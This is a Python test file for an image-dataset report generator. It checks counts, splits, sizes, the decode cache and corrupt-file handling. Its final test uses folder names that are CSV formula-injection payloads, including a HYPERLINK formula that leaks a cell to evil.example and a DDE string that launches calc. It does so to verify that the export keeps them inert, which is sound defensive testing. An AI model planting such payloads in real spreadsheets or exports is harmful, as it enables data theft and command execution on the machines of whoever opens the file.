"""End to end on a real image folder: Pillow-made PNG/JPEG files of mixed sizes and one corrupt file, built through
the CLI into HTML, PDF and results.json, read back; then the decode cache across rebuilds, and `bad_files: fail`."""

from __future__ import annotations

import datetime
import json
import re
from pathlib import Path

import numpy as np
import pytest
from bs4 import BeautifulSoup, Comment
from PIL import Image

from reportgen.data.load import load_dataset
from reportgen.manifest.schema import DatasetSpec

from conftest import Built, cli
from manifests import NET, SMALL, manifest_text, variant

# class → [(width, height, format, how many)], in file order; counts 20, 15, 10
LAYOUT = {
    "apple": [(40, 30, "png", 14), (32, 32, "jpg", 4), (50, 50, "png", 2)],
    "banana": [(40, 30, "jpg", 10), (32, 32, "png", 4), (50, 50, "jpg", 1)],
    "cherry": [(40, 30, "png", 7), (32, 32, "jpg", 2), (50, 50, "png", 1)],
}
COLOURS = {"apple": (200, 40, 40), "banana": (220, 210, 60), "cherry": (90, 20, 120)}
CLASSES = list(LAYOUT)
COUNTS = {c: sum(n for *_, n in LAYOUT[c]) for c in CLASSES}  # 20, 15, 10
SIZES = {"40×30": 31, "32×32": 10, "50×50": 4}  # W×H → images, most frequent first
CORRUPT = "images/banana/broken.jpg"  # relative to the manifest's folder, as the report shows it
CHANGED = "images/apple/000.png"  # rewritten by the cache test (40×30 → 24×24)

FRUIT = variant(SMALL,
                report={"title": "Fruit image folder", "course": "EN0000 Testing", "date": datetime.date(2024, 3, 1)},
                dataset={"name": "imagefolder", "root": "images", "split": [60, 20, 20], "seed": 42, "image_size": 16,
                         "channels": None, "bad_files": "skip", "classes": CLASSES},
                models={"mini": NET}, train={"batch_size": 16},
                experiments=[{"id": "base", "model": "mini", "title": "A tiny CNN on fruit"}],
                sections=["cover", "contents", {"dataset": {"grid": [3, 3], "tsne_sample": 30, "sample": 40}},
                          "training", "evaluation", "provenance"])
MANIFEST = manifest_text(FRUIT)


# The manifest as a user would first write it, reading the class names from the folders. Until the bug that
# test_manifest_without_classes_loads shows is fixed, the build below lists the classes (same order as the folders).
NO_CLASSES = variant(FRUIT, dataset={"classes": None})
MANIFEST_NO_CLASSES = manifest_text(NO_CLASSES)
assert MANIFEST_NO_CLASSES != MANIFEST


def _norm(text: str) -> str:
    return re.sub(r"\s+", " ", text.replace("\u00a0", " ")).strip()


def _save(path: Path, colour: tuple[int, int, int], w: int, h: int, seed: int) -> None:
    """A noisy image of one colour, as PNG or JPEG by its extension."""
    rng = np.random.default_rng(seed)
    pixels = np.clip(np.array(colour) + rng.normal(0, 25, size=(h, w, 3)), 0, 255).astype(np.uint8)
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.fromarray(pixels).save(path, **({"quality": 90} if path.suffix == ".jpg" else {}))


def _make_folder(base: Path) -> Path:
    """base/images/<class>/NNN.{png,jpg} per LAYOUT, one corrupt JPEG, and base/fruit.yaml."""
    for k, (name, groups) in enumerate(LAYOUT.items()):
        i = 0
        for w, h, ext, n in groups:
            for _ in range(n):
                _save(base / "images" / name / f"{i:03d}.{ext}", COLOURS[name], w, h, seed=100 * k + i)
                i += 1
    (base / CORRUPT).write_bytes(b"\x00\x01garbage" + np.random.default_rng(0).bytes(600))
    manifest = base / "fruit.yaml"
    manifest.write_text(MANIFEST, "utf-8")
    return manifest


class Report(Built):
    """Built, with the PDF text and the decode-cache files' mtimes read right after the build."""

    def __init__(self, manifest: Path, out: Path, log: str):
        super().__init__(manifest, out, log)
        self.pdf = _norm(" ".join(self.pdf_pages()))
        self.soup = BeautifulSoup(self.html, "html.parser")
        self.sec = self.soup.find("section", class_="dataset")
        self.ex = self.results["dataset"]["exploration"]
        self.decode_cache = _mtimes(out / "cache" / "datasets")


def _mtimes(folder: Path) -> dict[str, int]:
    return {p.name: p.stat().st_mtime_ns for p in folder.glob("*.pt")}


@pytest.fixture(scope="module")
def report(tmp_path_factory) -> Report:
    base = tmp_path_factory.mktemp("fruit")
    manifest = _make_folder(base)
    out = base / "out"
    result = cli("build", manifest, "--out", out)
    assert result.exit_code == 0, result.output
    return Report(manifest, out, result.output)


# ---------------------------------------------------------------- the build and its log

@pytest.mark.slow
def test_build_log_and_outputs(report):
    assert (report.out / "report.html").is_file() and report.pdf_path.read_bytes()[:5] == b"%PDF-"
    assert "trained 1 run(s), 0 cached" in report.log
    assert f"dataset: image folders from images ({sum(COUNTS.values())} images, 3 classes" in report.log
    assert "1 unreadable file skipped" in report.log
    assert len(report.decode_cache) == 1  # one decoded copy of the folder under <out>/cache/datasets/
    d = report.results["dataset"]
    assert d["name"] == "imagefolder" and d["classes"] == CLASSES and d["input_shape"] == [3, 16, 16]
    assert sum(d["sizes"].values()) == sum(COUNTS.values()) and not d["synthetic"]


# ---------------------------------------------------------------- classes and splits

def test_class_counts_table(report):
    intro = _norm(report.sec.find("p").get_text())  # a sentence, so it starts with a capital
    assert intro.startswith("Image folders from images (45 images, 3 classes;") and intro.endswith(
        ": 45 images in 3 classes."), intro
    table = report.sec.find("table", class_="class-counts")
    rows = table.tbody.find_all("tr")
    assert [r["data-class"] for r in rows] == CLASSES
    assert [int(r.find("td", class_="num")["data-count"]) for r in rows] == [COUNTS[c] for c in CLASSES]
    assert [_norm(r.find_all("td")[1].get_text()) for r in rows] == [str(COUNTS[c]) for c in CLASSES]
    assert int(table.tfoot.find("td")["data-count"]) == 45
    # results.json carries the numbers the table shows
    assert report.ex["counts"]["per_class"] == [COUNTS[c] for c in CLASSES] and report.ex["counts"]["total"] == 45
    assert report.ex["classes"] == CLASSES and report.ex["splits"] == ["train", "validation", "test"]


def test_split_table_adds_up_and_is_stratified(report):
    table = report.sec.find("table", class_="split-counts")
    assert [_norm(th.get_text()) for th in table.thead.find_all("th")] == ["Class", "Training", "Validation",
                                                                           "Test", "Total"]
    cell = re.compile(r"^(\d+) \((\d+\.\d) %\)$")
    per_split = report.ex["counts"]["per_split"]
    columns = [0, 0, 0]
    for k, row in enumerate(table.tbody.find_all("tr")):
        tds = [_norm(td.get_text()) for td in row.find_all("td")]
        assert tds[0] == CLASSES[k]
        parsed = [cell.match(t) for t in tds[1:4]]
        assert all(parsed), tds
        counts = [int(m[1]) for m in parsed]
        shares = [float(m[2]) for m in parsed]
        assert sum(counts) == int(tds[4]) == COUNTS[CLASSES[k]]  # the splits add up to the class total
        assert counts == [per_split[s][k] for s in ("train", "validation", "test")]
        for c, s in zip(counts, shares):
            assert s == pytest.approx(100 * c / COUNTS[CLASSES[k]], abs=0.05)
        # stratified 60:20:20 (the corrupt file is allotted before it is dropped, so ±1 image)
        assert abs(counts[0] - 0.6 * COUNTS[CLASSES[k]]) <= 1 and abs(shares[0] - 60) <= 7
        assert all(abs(c - 0.2 * COUNTS[CLASSES[k]]) <= 1 for c in counts[1:])
        columns = [a + b for a, b in zip(columns, counts)]
    # classes without the corrupt file split exactly (20 → 12/4/4, 10 → 6/2/2)
    order = ("train", "validation", "test")
    assert [per_split[s][0] for s in order] == [12, 4, 4] and [per_split[s][2] for s in order] == [6, 2, 2]
    foot = [_norm(td.get_text()) for td in table.tfoot.find_all("td")]
    assert [int(cell.match(t)[1]) for t in foot[:3]] == columns and int(foot[3]) == 45
    assert columns == [report.results["dataset"]["sizes"][s] for s in ("train", "validation", "test")]
    assert abs(columns[0] / 45 - 0.6) < 0.03


# ---------------------------------------------------------------- image sizes and skipped files

def test_image_size_check(report):
    text = _norm(report.sec.find("p", class_="size-check").get_text())
    assert "The images do not all have the same size: 3 different sizes occur among 45 images" in text
    assert "the most common is 40×30 pixels" in text
    assert "were resized to 16×16 pixels with 3 channels (RGB)" in text
    assert "1 unreadable file was skipped:" in text
    rows = report.sec.find("table", class_="image-sizes").tbody.find_all("tr")
    table = [[_norm(td.get_text()) for td in r.find_all("td")] for r in rows]
    assert [(t[0], int(t[1])) for t in table] == list(SIZES.items())
    assert {t[3] for t in table} == {"16×16"}
    s = report.ex["sizes"]
    assert [(r["size"], r["count"]) for r in s["original"]] == list(SIZES.items())
    assert s["distinct"] == 3 and not s["uniform"] and s["resized_to"] == "16×16" and s["source"] == "files"


def test_skipped_corrupt_file_listed(report):
    items = report.sec.find("ul", class_="skipped").find_all("li")
    assert len(items) == 1
    assert items[0].code.get_text() == CORRUPT and _norm(items[0].get_text()).startswith(CORRUPT + ": ")
    assert len(_norm(items[0].get_text())) > len(CORRUPT) + 2  # with a reason
    s = report.ex["sizes"]
    assert s["skipped_count"] == 1 and [x["path"] for x in s["skipped"]] == [CORRUPT]
    assert report.results["dataset"]["source"]["skipped"] == 1
    assert "1 unreadable file skipped" in report.html


# ---------------------------------------------------------------- channels

def test_channel_table(report):
    rows = report.sec.find("table", class_="channel-stats").tbody.find_all("tr")
    cells = [[_norm(td.get_text()) for td in r.find_all("td")] for r in rows]
    assert [c[0] for c in cells] == ["red", "green", "blue"]
    ch = report.ex["channels"]
    for k, c in enumerate(cells):
        values = [float(v) for v in c[1:]]
        assert all(0.0 <= v <= 1.0 for v in values), c
        assert values[0] == pytest.approx(ch["all"]["mean"][k], abs=0.006)
        assert values[1] == pytest.approx(ch["all"]["std"][k], abs=0.006)
        assert values[2] == pytest.approx(ch["train"]["mean"][k], abs=0.006)
        assert values[1] > 0
    # red is the brightest channel (apples and bananas are red-heavy); training stats match the normalisation
    assert ch["all"]["mean"][0] > ch["all"]["mean"][2]
    assert ch["train"]["mean"] == pytest.approx(report.results["dataset"]["mean"], abs=1e-5)
    assert ch["train"]["std"] == pytest.approx(report.results["dataset"]["std"], abs=1e-5)


# ---------------------------------------------------------------- figures

def test_dataset_figures(report):
    figs = report.sec.find_all("figure")
    keys = [f["data-key"] for f in figs]
    assert [k.split("/")[0] for k in keys] == ["ds-counts", "ds-splits", "ds-grid", "ds-pca", "ds-tsne"]
    captions = {k.split("/")[0]: _norm(f.figcaption.get_text()) for k, f in zip(keys, figs)}
    assert "Number of images per class" in captions["ds-counts"]
    assert "stacked by split" in captions["ds-splits"]
    assert "9 random training images" in captions["ds-grid"] and "seed 42" in captions["ds-grid"]
    train = report.results["dataset"]["sizes"]["train"]
    assert f"PCA of {min(40, train)} training images" in captions["ds-pca"]
    assert f"t-SNE of {min(30, train)} training images" in captions["ds-tsne"]
    assert all(f.find("svg") is not None for f in figs)
    grid = figs[2].find_all("image")
    assert len(grid) == 9 and all(i["xlink:href"].startswith("data:image/png;base64,") for i in grid)
    assert {g["label"] for g in report.ex["grid"]["images"]} == {0, 1, 2}  # cycles through the classes
    assert report.ex["pca"]["n"] == min(40, train) and report.ex["tsne"]["n"] == min(30, train)


def test_pca_axis_labels_carry_explained_variance(report):
    ev = report.ex["pca"]["explained_variance"]
    assert 0 < ev[1] <= ev[0] < 1
    pca = next(f for f in report.sec.find_all("figure") if f["data-key"].startswith("ds-pca/"))
    # glyphs are drawn as paths; matplotlib keeps each text as a comment beside its glyphs
    texts = {_norm(c) for c in pca.find_all(string=lambda s: isinstance(s, Comment))}
    assert f"PC 1 ({ev[0] * 100:.1f} % of variance)" in texts, sorted(texts)
    assert f"PC 2 ({ev[1] * 100:.1f} % of variance)" in texts


# ---------------------------------------------------------------- the PDF

def test_pdf_text(report):
    pdf = report.pdf
    for text in ("Dataset", "Classes", "Image sizes", "Channel statistics", "PCA and t-SNE projections",
                 *CLASSES, CORRUPT, *SIZES, "resized to 16×16", "do not all have the same size",
                 "1 unreadable file was skipped"):
        assert text in pdf, text
    for size, count in SIZES.items():  # each row of the sizes table: size, images, share, used as
        assert f"{size} {count} {100 * count / 45:.2f} % 16×16" in pdf, size
    heading = _norm(report.sec.h2.get_text())
    assert heading.endswith("Dataset") and heading in pdf


# ---------------------------------------------------------------- the decode cache across rebuilds

@pytest.mark.slow
def test_rebuild_reuses_or_invalidates_the_decode_cache(report):
    cache = report.out / "cache" / "datasets"
    (first,) = report.decode_cache
    spec = DatasetSpec(name="imagefolder", root="images", split=[60, 20, 20], seed=42, image_size=16,
                       bad_files="skip")
    base = report.manifest.parent

    same = cli("build", report.manifest, "--out", report.out, "--no-pdf")
    assert same.exit_code == 0, same.output
    assert "all 1 runs were cached; nothing was trained" in same.output and "base: cached" in same.output
    assert _mtimes(cache) == report.decode_cache  # the decoded copy was read, not rewritten
    assert load_dataset(spec, base, cache_dir=report.out / "cache").info["cache"] == "hit"
    assert (report.out / "report.html").read_text("utf-8") == report.html

    image = base / CHANGED
    _save(image, (0, 0, 0), 24, 24, seed=999)  # new content and size
    changed = cli("build", report.manifest, "--out", report.out, "--no-pdf")
    assert changed.exit_code == 0, changed.output
    assert "trained 1 run(s), 0 cached" in changed.output and "nothing was trained" not in changed.output
    now = _mtimes(cache)
    assert len(now) == 2 and now[first] == report.decode_cache[first]  # a new decoded copy beside the old one
    (second,) = set(now) - {first}
    info = load_dataset(spec, base, cache_dir=report.out / "cache").info
    assert info["cache"] == "hit" and info["decoded"] == 0  # the build stored the re-decoded folder
    results = json.loads((report.out / "results.json").read_text("utf-8"))
    sizes = {r["size"]: r["count"] for r in results["dataset"]["exploration"]["sizes"]["original"]}
    assert sizes == {"40×30": 30, "32×32": 10, "50×50": 4, "24×24": 1}
    assert results["dataset"]["fingerprint"] != report.results["dataset"]["fingerprint"]
    soup = BeautifulSoup((report.out / "report.html").read_text("utf-8"), "html.parser")
    size_rows = soup.find("table", class_="image-sizes").tbody.find_all("tr")
    assert ["24×24", "1"] == [_norm(td.get_text()) for td in size_rows[-1].find_all("td")][:2]

    again = cli("build", report.manifest, "--out", report.out, "--no-pdf")
    assert again.exit_code == 0 and "nothing was trained" in again.output
    assert _mtimes(cache) == now


# ---------------------------------------------------------------- bad_files: fail

def test_bad_files_fail_stops_the_build(report):
    out = report.manifest.parent / "out-fail"
    result = cli("build", report.manifest, "--out", out, "--set", "dataset.bad_files=fail")
    assert result.exit_code == 2, result.output
    errors = [line for line in result.output.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "1 unreadable image file" in errors[0], result.output
    assert result.output.count(CORRUPT) == 1 and "bad_files: skip" in result.output
    assert "Traceback" not in result.output
    assert not (out / "report.html").exists() and not (out / "results.json").exists()
    assert not (out / "report.pdf").exists()
    # with a warm decode cache (which remembers the unreadable file) it fails alike, leaving the old report alone
    stamp = (report.out / "report.html").stat().st_mtime_ns
    warm = cli("build", report.manifest, "--out", report.out, "--no-pdf", "--set", "dataset.bad_files=fail")
    assert warm.exit_code == 2 and CORRUPT in warm.output
    assert (report.out / "report.html").stat().st_mtime_ns == stamp


# ---------------------------------------------------------------- a manifest without `classes:`

def test_manifest_without_classes_loads(report):
    """Without `classes:`, the class names are the sub-folders, sorted."""
    manifest = report.manifest.parent / "fruit-no-classes.yaml"
    manifest.write_text(MANIFEST_NO_CLASSES, "utf-8")
    result = cli("validate", manifest)
    assert result.exit_code == 0 and "ok (1 model(s), 1 experiment(s) giving 1 run(s), 6 section(s))" in result.output
    from reportgen.build import load
    assert load(manifest).manifest.dataset.classes == CLASSES  # read from the folders, in sorted order


# ---------------------------------------------------------------- hostile class names in the export

HOSTILE_CLASSES = ['=HYPERLINK("https:evil.example?x="&A1,"open")', "@SUM(1+1)", "+cmd|' -C calc'!A0",
                   "-2+3", "plain"]  # folder names: no "/"


@pytest.mark.slow
def test_class_names_that_look_like_formulas_stay_text_in_the_csv_export(tmp_path):
    """Class names come from folder names a student chose; graders open the exported CSV in a spreadsheet."""
    for k, name in enumerate(HOSTILE_CLASSES):
        for i in range(6):
            _save(tmp_path / "images" / name / f"{i:03d}.png", (40 * k, 200 - 30 * k, 90), 12, 12, seed=10 * k + i)
    manifest = tmp_path / "hostile.yaml"
    sections = [{"dataset": {"grid": [2, 2], "pca": False, "tsne": False}} if isinstance(s, dict) and "dataset" in s
                else s for s in NO_CLASSES["sections"]]  # a smaller dataset section: no projections
    manifest.write_text(manifest_text(NO_CLASSES, sections=sections), "utf-8")
    result = cli("build", manifest, "--out", tmp_path / "out", "--no-pdf", "--export", "csv,markdown")
    assert result.exit_code == 0, result.output
    import csv

    with (tmp_path / "out" / "export" / "tables" / "dataset-counts.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    shown = {row[0] for row in rows[1:-1]}
    assert shown == {"'" + n for n in HOSTILE_CLASSES[:-1]} | {"plain"}, shown
    assert all(int(row[1]) == 6 for row in rows[1:-1])  # the counts stay numbers
    for path in (tmp_path / "out" / "export" / "tables").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert not [c for c in cells if c and c[0] in "=+@" or c.startswith("-") and not re.fullmatch(r"-[\d.e+-]+", c)]
    md = (tmp_path / "out" / "export" / "report.md").read_text("utf-8")
    assert "evil.example" in md and "](https:evil" not in md and "<a " not in md.split("## ")[1]
